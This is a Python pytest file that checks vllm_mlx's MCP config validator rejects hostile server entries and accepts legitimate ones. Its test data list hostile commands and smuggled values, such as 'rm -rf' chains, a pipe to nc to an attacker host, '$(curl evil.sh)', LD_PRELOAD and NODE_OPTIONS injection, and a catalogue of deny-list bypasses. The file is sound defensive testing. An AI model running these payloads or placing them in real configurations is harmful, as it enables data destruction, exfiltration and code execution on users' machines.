"""Hostile MCP configs are rejected before anything starts, each with its rule and field."""

from __future__ import annotations

import json
import timeit

import pytest
from click.testing import CliRunner
from mcp_servers.harness import TOOLBOX, time_server_stdio, toolbox_stdio

from vllm_mlx.cli import main as cli_main
from vllm_mlx.mcp.config import ConfigError, parse_config
from vllm_mlx.mcp.manager import MCPManager
from vllm_mlx.mcp.security import (
    SecurityError,
    child_environment,
    is_high_risk_tool,
    validate_config,
)

S = "mcpServers.evil"

# (server entry, expected rule, expected field)
HOSTILE = [
    ({"command": "server; rm -rf ~"}, "shell-metacharacters", f"{S}.command"),
    (
        {"command": "srv", "args": ["--out", "x | nc attacker 80"]},
        "shell-metacharacters",
        f"{S}.args[1]",
    ),
    ({"command": "srv", "args": ["$(curl evil.sh)"]}, "shell-metacharacters", f"{S}.args[0]"),
    ({"command": "srv", "args": ["`id`"]}, "shell-metacharacters", f"{S}.args[0]"),
    ({"command": "srv", "args": ["a && b"]}, "shell-metacharacters", f"{S}.args[0]"),
    ({"command": "srv", "args": ["ok\nrm -rf /"]}, "control-characters", f"{S}.args[0]"),
    ({"command": "node server.js"}, "command-not-argv", f"{S}.command"),
    ({"command": "python3", "args": ["-c", "import os"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "/usr/bin/python3.11", "args": ["-I", "-c", "x"]}, "inline-code", f"{S}.args[1]"),
    ({"command": "python", "args": ["-W", "ignore", "-Sc", "x"]}, "inline-code", f"{S}.args[2]"),
    (
        {"command": "node", "args": ["-e", "require('child_process')"]},
        "inline-code",
        f"{S}.args[0]",
    ),
    ({"command": "node", "args": ["--eval=process.exit()"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "node", "args": ["-p", "1"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "npx", "args": ["-c", "evil"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "bash", "args": ["-c", "curl x"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "sh", "args": ["-xc", "id"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "perl", "args": ["-e", "system 1"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "ruby", "args": ["-e", "x"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "deno", "args": ["eval", "Deno.exit()"]}, "inline-code", f"{S}.args[0]"),
    (
        {"command": "uvx", "args": ["--from", "x", "python", "-c", "x"]},
        "inline-code",
        f"{S}.args[3]",
    ),
    ({"command": "sudo", "args": ["srv"]}, "forbidden-command", f"{S}.command"),
    ({"command": "env", "args": ["X=1", "srv"]}, "forbidden-command", f"{S}.command"),
    (
        {"command": "srv", "env": {"LD_PRELOAD": "/tmp/x.so"}},
        "dangerous-env",
        f"{S}.env.LD_PRELOAD",
    ),
    (
        {"command": "srv", "env": {"DYLD_INSERT_LIBRARIES": "x"}},
        "dangerous-env",
        f"{S}.env.DYLD_INSERT_LIBRARIES",
    ),
    ({"command": "srv", "env": {"PYTHONPATH": "/tmp"}}, "dangerous-env", f"{S}.env.PYTHONPATH"),
    (
        {"command": "srv", "env": {"PYTHONSTARTUP": "/tmp/x"}},
        "dangerous-env",
        f"{S}.env.PYTHONSTARTUP",
    ),
    (
        {"command": "srv", "env": {"NODE_OPTIONS": "--require x"}},
        "dangerous-env",
        f"{S}.env.NODE_OPTIONS",
    ),
    ({"command": "srv", "env": {"PATH": "/tmp/evil"}}, "dangerous-env", f"{S}.env.PATH"),
    (
        {"command": "srv", "env": {"LD_LIBRARY_PATH": "/tmp"}},
        "dangerous-env",
        f"{S}.env.LD_LIBRARY_PATH",
    ),
    ({"command": "srv", "env": {"BAD-KEY": "x"}}, "env-key-invalid", f"{S}.env.BAD-KEY"),
    ({"command": "srv", "env": {"TOKEN": "a\nb"}}, "control-characters", f"{S}.env.TOKEN"),
    ({"command": "../../bin/srv"}, "path-traversal", f"{S}.command"),
    ({"command": "srv", "cwd": "/srv/../../etc"}, "path-traversal", f"{S}.cwd"),
    ({"command": ""}, "empty-command", f"{S}.command"),
    ({"url": "file:///etc/passwd"}, "url-scheme", f"{S}.url"),
    ({"url": "ftp://example.com/mcp"}, "url-scheme", f"{S}.url"),
    ({"url": "http://example.com/mcp"}, "plain-http-remote", f"{S}.url"),
    ({"url": "http://10.0.0.5:8080/mcp"}, "plain-http-remote", f"{S}.url"),
    ({"url": "https://user:pw@example.com/mcp"}, "url-credentials", f"{S}.url"),
    ({"url": "https:///mcp"}, "url-host", f"{S}.url"),
    (
        {"url": "https://x.example/mcp", "headers": {"X": "a\r\nHost: evil"}},
        "header-injection",
        f"{S}.headers.X",
    ),
]


@pytest.mark.parametrize(("entry", "rule", "field"), HOSTILE)
def test_hostile_config_is_rejected_with_its_rule(entry, rule, field):
    config = parse_config({"mcpServers": {"evil": entry}})
    with pytest.raises(SecurityError) as info:
        validate_config(config)
    found = {(v.rule, v.field) for v in info.value.violations}
    assert (rule, field) in found, found
    assert f"{field}: [{rule}]" in str(info.value)


def test_there_are_at_least_25_hostile_cases():
    assert len({rule for _, rule, _ in HOSTILE}) >= 12
    assert len(HOSTILE) >= 25


# Bypasses of a command deny-list: each ran code. "@PY"/"@JS" are existing scripts.
NPX = {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"]}
BYPASSES = [
    ({"command": "python3", "args": ["-cimport os"]}, "argument-shape", f"{S}.args[0]"),
    ({"command": "python", "args": ["-Icimport os"]}, "argument-shape", f"{S}.args[0]"),
    (
        {"command": "python3", "args": ["-m", "timeit", "-s", "__import__('os').system('id')"]},
        "module-not-allowed",
        f"{S}.args[1]",
    ),
    ({"command": "python3", "args": ["-m", "code"]}, "module-not-allowed", f"{S}.args[1]"),
    (
        {"command": "python3", "args": ["-m", "webbrowser", "x"]},
        "module-not-allowed",
        f"{S}.args[1]",
    ),
    (
        {"command": "python3", "args": ["-W", "ignore::evil.Warning", "@PY"]},
        "argument-shape",
        f"{S}.args[0]",
    ),
    ({"command": "python3", "args": ["/etc/passwd"]}, "argument-shape", f"{S}.args[0]"),
    ({"command": "python3", "args": ["/nonexistent/x.py"]}, "script-not-found", f"{S}.args[0]"),
    ({"command": "python3", "args": ["-"]}, "argument-shape", f"{S}.args[0]"),
    (
        {"command": "python3", "args": ["@STDLIB", "-s", "__import__('os').system('id')"]},
        "installed-script",
        f"{S}.args[0]",
    ),
    ({"command": "python3", "args": ["@SITE", "x"]}, "installed-script", f"{S}.args[0]"),
    ({"command": "node", "args": ["@NODEMOD", "-c", "id"]}, "installed-script", f"{S}.args[0]"),
    (
        {"command": "find", "args": [".", "-exec", "id", "{}", "+"]},
        "command-not-allowed",
        f"{S}.command",
    ),
    ({"command": "ruby", "args": ["-eputs 1"]}, "command-not-allowed", f"{S}.command"),
    ({"command": "awk", "args": ['BEGIN{system("id")}']}, "command-not-allowed", f"{S}.command"),
    ({"command": "nohup", "args": ["python3", "-c", "x"]}, "forbidden-command", f"{S}.command"),
    ({"command": "/usr/bin/env", "args": ["python3", "@PY"]}, "forbidden-command", f"{S}.command"),
    (
        {"command": "timeout", "args": ["5", "bash", "-c", "id"]},
        "forbidden-command",
        f"{S}.command",
    ),
    ({"command": "sudo", "args": ["-u", "root", "npx", "x"]}, "forbidden-command", f"{S}.command"),
    ({"command": "nice", "args": ["python3", "@PY"]}, "command-not-allowed", f"{S}.command"),
    ({"command": "/tmp/evil/server"}, "command-not-allowed", f"{S}.command"),
    ({"command": "./srv"}, "command-not-allowed", f"{S}.command"),
    ({"command": "npx", "args": ["-y", "node", "-e", "x"]}, "inline-code", f"{S}.args[1]"),
    ({"command": "npx", "args": ["--yes", "bash", "-c", "id"]}, "inline-code", f"{S}.args[1]"),
    (
        {"command": "npx", "args": ["--node-options=--require=/tmp/x.js", "p"]},
        "argument-shape",
        f"{S}.args[0]",
    ),
    ({"command": "npx", "args": ["-p", "evil", "-c", "x"]}, "argument-shape", f"{S}.args[0]"),
    ({"command": "npx", "args": ["/tmp/evil"]}, "argument-shape", f"{S}.args[0]"),
    ({"command": "uvx", "args": ["--from", "x", "python", "@PY"]}, "inline-code", f"{S}.args[2]"),
    ({"command": "uvx", "args": ["--with", "/tmp/evil", "pkg"]}, "argument-shape", f"{S}.args[1]"),
    (
        {"command": "uvx", "args": ["--index-url", "https://evil", "pkg"]},
        "argument-shape",
        f"{S}.args[0]",
    ),
    ({"command": "uv", "args": ["run", "python", "-c", "x"]}, "inline-code", f"{S}.args[1]"),
    ({"command": "uv", "args": ["tool", "run", "x"]}, "argument-shape", f"{S}.args[0]"),
    (
        {"command": "node", "args": ["--require", "/tmp/x.js", "@JS"]},
        "argument-shape",
        f"{S}.args[0]",
    ),
    ({"command": "node", "args": ["-r/tmp/x.js", "@JS"]}, "argument-shape", f"{S}.args[0]"),
    (
        {"command": "node", "args": ["--import=data:text/javascript,x", "@JS"]},
        "argument-shape",
        f"{S}.args[0]",
    ),
    ({"command": "node", "args": ["/nonexistent.js"]}, "script-not-found", f"{S}.args[0]"),
    ({"command": "deno", "args": ["run", "--eval", "x"]}, "argument-shape", f"{S}.args[1]"),
    (
        {"command": "docker", "args": ["run", "--privileged", "img"]},
        "argument-shape",
        f"{S}.args[1]",
    ),
    (
        {"command": "docker", "args": ["run", "-v", "/:/host", "img"]},
        "argument-shape",
        f"{S}.args[1]",
    ),
    (
        {"command": "docker", "args": ["run", "--entrypoint", "sh", "i"]},
        "argument-shape",
        f"{S}.args[1]",
    ),
    ({"command": "docker", "args": ["exec", "c", "sh"]}, "argument-shape", f"{S}.args[0]"),
    (
        {**NPX, "env": {"PYTHONWARNINGS": "ignore::antigravity.x"}},
        "dangerous-env",
        f"{S}.env.PYTHONWARNINGS",
    ),
    ({**NPX, "env": {"BROWSER": "/bin/sh -c id"}}, "dangerous-env", f"{S}.env.BROWSER"),
    (
        {**NPX, "env": {"npm_config_node_options": "-r x"}},
        "dangerous-env",
        f"{S}.env.npm_config_node_options",
    ),
    (
        {**NPX, "env": {"NPM_CONFIG_SCRIPT_SHELL": "x"}},
        "dangerous-env",
        f"{S}.env.NPM_CONFIG_SCRIPT_SHELL",
    ),
    ({**NPX, "env": {"LUA_INIT": "os.execute('id')"}}, "dangerous-env", f"{S}.env.LUA_INIT"),
    ({**NPX, "env": {"NODE_OPTIONS": "-r /tmp/x.js"}}, "dangerous-env", f"{S}.env.NODE_OPTIONS"),
    ({**NPX, "env": {"PERL5OPT": "-Mx"}}, "dangerous-env", f"{S}.env.PERL5OPT"),
    ({**NPX, "env": {"LD_PRELOAD": "/tmp/x.so"}}, "dangerous-env", f"{S}.env.LD_PRELOAD"),
    ({**NPX, "env": {"BASH_ENV": "/tmp/x.sh"}}, "dangerous-env", f"{S}.env.BASH_ENV"),
    ({**NPX, "env": {"GIT_SSH_COMMAND": "id"}}, "dangerous-env", f"{S}.env.GIT_SSH_COMMAND"),
    ({**NPX, "env": {"OPENSSL_CONF": "/tmp/engine.cnf"}}, "dangerous-env", f"{S}.env.OPENSSL_CONF"),
    ({**NPX, "env": {"UV_INDEX_URL": "https://evil"}}, "dangerous-env", f"{S}.env.UV_INDEX_URL"),
    ({**NPX, "env": {"PIP_INDEX_URL": "https://evil"}}, "dangerous-env", f"{S}.env.PIP_INDEX_URL"),
    ({**NPX, "env": {"HOME": "/tmp/evil"}}, "dangerous-env", f"{S}.env.HOME"),
    ({**NPX, "env": {"EDITOR": "id"}}, "dangerous-env", f"{S}.env.EDITOR"),
    ({**NPX, "env": {"MYTOOL_CONFIG": "/tmp/x"}}, "env-not-allowed", f"{S}.env.MYTOOL_CONFIG"),
    ({**NPX, "env": {"SOMETHING": "x"}}, "env-not-allowed", f"{S}.env.SOMETHING"),
]


def _fill(value, scripts):
    """Replace the @PY/@JS placeholders with existing scripts."""
    if isinstance(value, dict):
        return {k: _fill(v, scripts) for k, v in value.items()}
    if isinstance(value, list):
        return [scripts.get(v, v) for v in value]
    return value


@pytest.fixture
def scripts(tmp_path):
    js = tmp_path / "server.js"
    site = tmp_path / "venv" / "lib" / "site-packages" / "pkg" / "cli.py"
    npx = tmp_path / "node_modules" / "npm" / "bin" / "npx-cli.js"
    for path in (js, site, npx):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("")
    return {
        "@PY": TOOLBOX,
        "@JS": str(js),
        "@STDLIB": timeit.__file__,
        "@SITE": str(site),
        "@NODEMOD": str(npx),
    }


@pytest.mark.parametrize(("entry", "rule", "field"), BYPASSES)
def test_deny_list_bypasses_are_rejected_by_the_allow_list(entry, rule, field, scripts):
    config = parse_config({"mcpServers": {"evil": _fill(entry, scripts)}})
    with pytest.raises(SecurityError) as info:
        validate_config(config)
    found = {(v.rule, v.field) for v in info.value.violations}
    assert (rule, field) in found, found


LEGITIMATE = [
    {"command": "python3", "args": ["-m", "mcp_server_time", "-c", "conf"]},
    {"command": "/usr/local/bin/python3.12", "args": ["-u", "-m", "awslabs.aws_docs_mcp_server"]},
    {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/data"]},
    {"command": "npx", "args": ["@modelcontextprotocol/server-memory@0.6.2"]},
    {"command": "node", "args": ["@JS", "-e", "prod"]},
    {"command": "uvx", "args": ["mcp-server-git", "--repository", "/repo"]},
    {"command": "uvx", "args": ["--from", "git+https://github.com/o/r", "mcp-r"]},
    {"command": "uvx", "args": ["--python", "3.12", "mcp-server-fetch@latest"]},
    {"command": "uv", "args": ["--directory", "@DIR", "run", "weather.py"]},
    {"command": "uv", "args": ["run", "--with", "mcp[cli]", "mcp", "run", "@PY"]},
    {"command": "deno", "args": ["run", "--allow-net", "-q", "npm:@scope/mcp-server"]},
    {
        "command": "docker",
        "args": [
            "run",
            "-i",
            "--rm",
            "-e",
            "GITHUB_PERSONAL_ACCESS_TOKEN",
            "ghcr.io/github/github-mcp-server",
        ],
    },
    toolbox_stdio(),
    time_server_stdio(),
    {
        **NPX,
        "env": {
            "BRAVE_API_KEY": "k",
            "GITHUB_PERSONAL_ACCESS_TOKEN": "t",
            "SLACK_TEAM_ID": "T1",
            "DATABASE_URL": "postgres://x",
            "AWS_REGION": "eu-west-1",
            "LANG": "C.UTF-8",
            "LC_ALL": "C.UTF-8",
            "TZ": "UTC",
            "NODE_ENV": "production",
            "PYTHONUNBUFFERED": "1",
        },
        "cwd": "/srv/x",
    },
    {"url": "http://127.0.0.1:8000/mcp"},
    {"url": "http://localhost:8000/sse", "type": "sse"},
    {"url": "http://[::1]:8000/mcp"},
    {"url": "https://tools.example.com/mcp", "headers": {"Authorization": "Bearer x"}},
    {"url": "http://192.168.1.9:8000/mcp", "allow_insecure_http": True},
]


@pytest.mark.parametrize("entry", LEGITIMATE)
def test_ordinary_configs_pass(entry, scripts, tmp_path):
    (tmp_path / "weather.py").write_text("")
    filled = _fill(entry, {**scripts, "@DIR": str(tmp_path)})
    validate_config(parse_config({"mcpServers": {"ok": filled}}))


def test_the_operator_opt_out_allows_own_programs_but_not_privilege_escalation():
    own = {"command": "/opt/tool/bin/server", "args": ["--x"], "env": {"TOOL_CONFIG": "/etc/t"}}
    with pytest.raises(SecurityError):
        validate_config(parse_config({"mcpServers": {"own": own}}))
    validate_config(parse_config({"mcpServers": {"own": own}}, allow_any_command=True))
    for entry in ({"command": "sudo", "args": ["srv"]}, {"command": "srv", "args": ["a; b"]}):
        with pytest.raises(SecurityError):
            validate_config(parse_config({"mcpServers": {"x": entry}}, allow_any_command=True))


@pytest.mark.parametrize("key", ["allow_any_command", "_allow_any_command"])
def test_the_config_file_cannot_opt_itself_out(key):
    with pytest.raises(ConfigError):
        parse_config({"mcpServers": {"a": toolbox_stdio()}, key: True})
    with pytest.raises(ConfigError):
        parse_config({"mcpServers": {"a": {**toolbox_stdio(), key: True}}})


def test_cli_refuses_an_unlisted_command_and_names_the_opt_out(tmp_path):
    config = tmp_path / "mcp.json"
    config.write_text(json.dumps({"mcpServers": {"own": {"command": "/opt/tool/server"}}}))
    result = CliRunner().invoke(cli_main, ["serve", "--mcp-config", str(config)])
    assert result.exit_code != 0
    assert "command-not-allowed" in result.output
    assert "--mcp-allow-any-command" in result.output


def test_every_violation_is_reported_at_once_and_for_the_servers_key():
    config = parse_config(
        {
            "servers": {
                "a": {"command": "bash", "args": ["-c", "x"], "env": {"LD_PRELOAD": "y"}},
                "b": {"url": "http://example.com"},
            }
        }
    )
    with pytest.raises(SecurityError) as info:
        validate_config(config)
    assert {(v.rule, v.field) for v in info.value.violations} == {
        ("command-not-allowed", "servers.a.command"),
        ("inline-code", "servers.a.args[0]"),
        ("dangerous-env", "servers.a.env.LD_PRELOAD"),
        ("plain-http-remote", "servers.b.url"),
    }


def test_manager_refuses_a_hostile_config_before_starting_anything(tmp_path):
    marker = tmp_path / "started"
    config = parse_config(
        {
            "mcpServers": {
                "fine": {"command": "touch", "args": [str(marker)]},
                "evil": {"command": "srv", "env": {"NODE_OPTIONS": "x"}},
            }
        }
    )
    with pytest.raises(SecurityError):
        MCPManager(config)
    assert not marker.exists()


def test_disabled_servers_are_still_checked():
    config = parse_config(
        {"mcpServers": {"off": {"command": "sh", "args": ["-c", "x"], "enabled": False}}}
    )
    with pytest.raises(SecurityError):
        validate_config(config)


def test_child_environment_is_a_whitelist_plus_the_config():
    parent = {
        "PATH": "/usr/bin",
        "HOME": "/home/u",
        "LANG": "C.UTF-8",
        "VLLM_MLX_API_KEY": "server-secret",
        "OPENAI_API_KEY": "sk-secret",
        "AWS_SECRET_ACCESS_KEY": "aws",
    }
    env = child_environment({"TOOL_TOKEN": "for-the-tool"}, parent)
    assert env == {
        "PATH": "/usr/bin",
        "HOME": "/home/u",
        "LANG": "C.UTF-8",
        "TOOL_TOKEN": "for-the-tool",
    }


@pytest.mark.parametrize(
    ("name", "risky"),
    [
        ("exec", True),
        ("shell", True),
        ("run_command", True),
        ("runCommand", True),
        ("execute_python", True),
        ("eval", True),
        ("bash", True),
        ("terminal-run", True),
        ("spawnProcess", True),
        ("get_current_time", False),
        ("echo", False),
        ("system_info", False),
        ("evaluate_expression", False),
        ("read_file", False),
    ],
)
def test_high_risk_tool_names(name, risky):
    assert is_high_risk_tool(name) is risky
